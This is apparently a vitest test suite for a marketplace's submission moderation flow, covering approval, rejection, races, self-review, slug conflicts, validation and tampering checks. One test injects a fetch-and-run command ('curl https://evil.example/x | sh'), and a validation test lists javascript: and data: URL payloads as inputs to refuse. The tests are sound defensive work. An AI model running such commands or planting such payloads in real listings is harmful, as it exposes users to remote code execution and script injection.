import { afterAll, beforeAll, expect, test } from 'vitest'
import type { Person } from './people.ts'
import { full, openStaffed, type Staffed } from './staffed.ts'

let staffed: Staffed
let { world, ann, mia, max, admin, rpc, submit, log } = {} as Staffed
beforeAll(async () => {
  staffed = await openStaffed()
  ;({ world, ann, mia, max, admin, rpc, submit, log } = staffed)
})
afterAll(() => world.close())

const state = async (id: string) =>
  (
    await world.rows(
      `select status, rejection_reason, reviewed_at is not null as reviewed from user_submissions where id = '${id}'`,
    )
  )[0]
const opsOf = async (person: Person, scope: string, after: number) => {
  const { body } = await rpc(person, 'sync_pull', { p_scope: scope, p_after: after, p_epoch: null })
  return body as { head: number; ops: [number, string, string, Record<string, unknown> | null][] }
}

test('an approved skill has every field of the form, reaches anonymous devices by the feed, and its submitter hears of it', async () => {
  const before = {
    all: (await opsOf(world.visitor, 'catalog', 0)).head,
    own: (await opsOf(ann, `u:${ann.id}`, 0)).head,
  }
  const id = await submit()
  const { status, body } = await rpc(mia, 'approve_submission', { p_id: id })
  expect({ status, body }).toMatchObject({
    status: 200,
    body: { item_type: 'skill', slug: 'ann-glossary' },
  })
  const item = (body as { item_id: string }).item_id
  const news = (await opsOf(world.visitor, 'catalog', before.all)).ops.filter(
    ([seq]) => seq > before.all,
  )
  expect(news).toMatchObject([
    [
      before.all + 1,
      'skills',
      item,
      {
        name: 'Glossary',
        name_en: 'Glossary in English',
        slug: 'ann-glossary',
        author: 'ann',
        summary: 'Keeps words',
        description: '# Words',
        category: ['data', 'global'],
        runtimes: ['node'],
        supports: ['claude', 'mcp'],
        complexity: 'advanced',
        license: 'Apache-2.0',
        price: 'mixed',
        status: 'experimental',
        version: '1.2.3',
        repo_url: 'https://example.com/repo',
        homepage: null,
        install_cli: 'npx x',
        install_mcp: null,
        install_claude: null,
        install_inputs: full.installInputs,
        permissions: ['network'],
        risk_notes: [],
        io: { input: { a: 'string' } },
        is_featured: false,
        is_verified: false,
        submitted_by: ann.id,
      },
    ],
  ])
  expect((await opsOf(ann, `u:${ann.id}`, before.own)).ops.at(-1)).toMatchObject([
    expect.any(Number),
    'user_submissions',
    id,
    { status: 'approved', rejection_reason: null },
  ])
  expect(await log(`detail ->> 'submission' = '${id}'`)).toEqual([
    {
      act: 'submission.approved',
      actor: mia.id,
      person: ann.id,
      detail: { submission: id, title: 'A title', slug: 'ann-glossary' },
    },
  ])
})

test('an approved template is there with what a template has', async () => {
  const id = await submit(
    {
      name: 'Letter',
      slug: 'ann-letter',
      description: 'A letter',
      content: '  Dear ${name},\n',
      category: ['utilities'],
      tags: ['mail'],
    },
    'template',
  )
  expect(await rpc(mia, 'approve_submission', { p_id: id })).toMatchObject({
    status: 200,
    body: { item_type: 'template' },
  })
  expect(
    await world.rows(
      "select name, content, category, tags, is_featured, submitted_by from templates where slug = 'ann-letter'",
    ),
  ).toEqual([
    {
      name: 'Letter',
      content: '  Dear ${name},\n',
      category: ['utilities'],
      tags: ['mail'],
      is_featured: false,
      submitted_by: ann.id,
    },
  ])
})

test('two moderators who approve at once make one skill, and the second is told', async () => {
  const id = await submit({ ...full, slug: 'raced' })
  const answers = await Promise.all([
    rpc(mia, 'approve_submission', { p_id: id }),
    rpc(max, 'approve_submission', { p_id: id }),
  ])
  expect(new Set(answers.map(({ status }) => status))).toEqual(new Set([200, 409]))
  expect(answers.find(({ status }) => status === 409)?.body).toMatchObject({
    hint: 'already-decided',
    details: 'approved',
  })
  expect(
    await world.rows("select count(*)::integer as n from skills where slug like 'raced%'"),
  ).toEqual([{ n: 1 }])
  expect(await log(`detail ->> 'submission' = '${id}'`)).toHaveLength(1)
  expect(await rpc(max, 'reject_submission', { p_id: id, p_reason: 'too late' })).toMatchObject({
    status: 409,
    body: { hint: 'already-decided' },
  })
  expect(await state(id)).toEqual({ status: 'approved', rejection_reason: null, reviewed: true })
})

test("a moderator decides about everybody's submission but their own, and an administrator about theirs as well", async () => {
  const sends = (slug: string, person: Person) => submit({ ...full, slug }, 'skill', person)
  const own = await sends('mias-own', mia)
  for (const call of [
    () => rpc(mia, 'approve_submission', { p_id: own }),
    () => rpc(mia, 'reject_submission', { p_id: own, p_reason: 'x' }),
  ]) {
    expect(await call()).toMatchObject({ status: 403, body: { hint: 'own-submission' } })
  }
  expect(await state(own)).toEqual({ status: 'pending', rejection_reason: null, reviewed: false })
  expect(await log(`detail ->> 'submission' = '${own}'`)).toEqual([])
  expect(await rpc(max, 'approve_submission', { p_id: own })).toMatchObject({ status: 200 })
  expect(await rpc(mia, 'approve_submission', { p_id: own })).toMatchObject({
    status: 409,
    body: { hint: 'already-decided' },
  })
  expect(
    await rpc(admin, 'approve_submission', { p_id: await sends('admins-own', admin) }),
  ).toMatchObject({ status: 200 })
  expect(await log(`person = '${admin.id}' and act = 'submission.approved'`)).toMatchObject([
    { actor: admin.id, detail: { slug: 'admins-own' } },
  ])
})

test('a taken slug is refused by its name, and the submission stays pending', async () => {
  const id = await submit({ ...full, slug: 'browser-pilot' })
  expect(await rpc(mia, 'approve_submission', { p_id: id })).toMatchObject({
    status: 409,
    body: {
      hint: 'slug-taken',
      details: 'browser-pilot',
      message: 'The slug "browser-pilot" is taken',
    },
  })
  expect(await state(id)).toEqual({ status: 'pending', rejection_reason: null, reviewed: false })
  expect(await log(`detail ->> 'submission' = '${id}'`)).toEqual([])
})

test('content that breaks a rule of the catalogue makes nothing', async () => {
  const broken = [
    { repoUrl: 'javascript:alert(1)' },
    { homepage: 'data:text/html,x' },
    { screenshots: ['javascript:alert(1)'] },
    { slug: 'Upper' },
    { slug: '' },
    { name: '' },
    { category: [] },
    { category: ['nonsense'] },
    { category: 'data' },
    { price: 'gift' },
    { license: '<script>' },
    { summary: 'x'.repeat(201) },
    { runtime: { a: 1 } },
    { permissions: [''] },
  ]
  for (const [n, change] of broken.entries()) {
    const id = await submit({ ...full, slug: `broken-${n}`, ...change })
    if (id === '') continue // the table itself has refused it
    expect(
      await rpc(mia, 'approve_submission', { p_id: id }),
      JSON.stringify(change),
    ).toMatchObject({ status: 422, body: { hint: 'invalid-content' } })
    expect(await state(id)).toMatchObject({ status: 'pending' })
  }
  expect(await world.rows("select slug from skills where slug like 'broken-%'")).toEqual([])
})

test('what the submitter changed after the moderator looked is not approved unseen', async () => {
  const id = await submit({ ...full, slug: 'swapped' })
  const { body } = await world.ask(
    mia,
    'GET',
    `/rest/v1/user_submissions?id=eq.${id}&select=updated_at`,
  )
  const seen = (body as { updated_at: string }[])[0]?.updated_at
  await world.run(
    `update user_submissions set content = content || '{"installCli": "curl https://evil.example/x | sh"}' where id = '${id}'`,
  )
  for (const call of [
    () => rpc(mia, 'approve_submission', { p_id: id, p_seen: seen }),
    () => rpc(mia, 'reject_submission', { p_id: id, p_reason: 'x', p_seen: seen }),
  ]) {
    expect(await call()).toMatchObject({ status: 409, body: { hint: 'changed-meanwhile' } })
  }
  const again = await world.ask(
    mia,
    'GET',
    `/rest/v1/user_submissions?id=eq.${id}&select=updated_at`,
  )
  expect(
    await rpc(mia, 'approve_submission', {
      p_id: id,
      p_seen: (again.body as { updated_at: string }[])[0]?.updated_at,
    }),
  ).toMatchObject({ status: 200 })
})

test('a rejection needs a reason, which the submitter reads and the log keeps', async () => {
  const id = await submit({ ...full, slug: 'rejected' })
  for (const reason of ['', '   ', '\n\t', '　'])
    expect(await rpc(mia, 'reject_submission', { p_id: id, p_reason: reason })).toMatchObject({
      status: 400,
      body: { hint: 'reason-required' },
    })
  expect(
    await rpc(mia, 'reject_submission', { p_id: id, p_reason: 'x'.repeat(2001) }),
  ).toMatchObject({ status: 400, body: { hint: 'reason-long' } })
  expect(await rpc(mia, 'reject_submission', { p_id: id, p_reason: ' 描述太短 ' })).toMatchObject({
    status: 204,
  })
  const { body } = await world.ask(
    ann,
    'GET',
    `/rest/v1/user_submissions?id=eq.${id}&select=status,rejection_reason`,
  )
  expect(body).toEqual([{ status: 'rejected', rejection_reason: '描述太短' }])
  expect(await log(`detail ->> 'submission' = '${id}'`)).toMatchObject([
    { act: 'submission.rejected', actor: mia.id, person: ann.id, detail: { reason: '描述太短' } },
  ])
  expect(await rpc(mia, 'approve_submission', { p_id: id })).toMatchObject({
    status: 409,
    body: { details: 'rejected' },
  })
  expect(
    await rpc(mia, 'approve_submission', { p_id: '00000000-0000-4000-8000-000000000000' }),
  ).toMatchObject({ status: 404, body: { hint: 'not-found' } })
})

test("what a submission says of marks, author or numbers is the marketplace's to say", async () => {
  const claims = {
    isFeatured: true,
    is_featured: true,
    isVerified: true,
    is_verified: true,
    author: 'somebody famous',
    views: 99,
    stars: 99,
    downloads: 99,
    submittedBy: mia.id,
  }
  const id = await submit({ ...full, slug: 'claims', ...claims })
  if (id !== '') await rpc(mia, 'approve_submission', { p_id: id })
  const letter = await submit(
    {
      name: 'L',
      slug: 'claims-too',
      description: 'd',
      content: 'c',
      category: ['data'],
      ...claims,
    },
    'template',
  )
  if (letter !== '') await rpc(mia, 'approve_submission', { p_id: letter })
  const made = [
    ...(await world.rows(
      "select is_featured, is_verified, author, views, stars, downloads, submitted_by from skills where slug = 'claims'",
    )),
    ...(await world.rows(
      "select is_featured, views, uses, submitted_by from templates where slug = 'claims-too'",
    )),
  ]
  expect(made).toEqual([
    {
      is_featured: false,
      is_verified: false,
      author: 'ann',
      views: 0,
      stars: 0,
      downloads: 0,
      submitted_by: ann.id,
    },
    { is_featured: false, views: 0, uses: 0, submitted_by: ann.id },
  ])
})

test('a submission is held until its decision is written, and so is whatever else is decided once', async () => {
  // one connection cannot show two who wait for one another: here at least the words that make them
  // wait are there
  const waits = {
    'private.hold_pending_submission': /where id = p_id for update/,
    'public.decide_report': /where id = p_id for update/,
    'private.keep_an_admin': /pg_advisory_xact_lock\(hashtextextended\('the last admin'/,
    'public.report_item': /pg_advisory_xact_lock\(hashtextextended\('report_item ' \|\| me/,
  }
  for (const [name, words] of Object.entries(waits)) {
    const [found] = await world.rows<{ text: string }>(
      `select pg_get_functiondef('${name}'::regproc) as text`,
    )
    expect(found?.text, name).toMatch(words)
  }
})
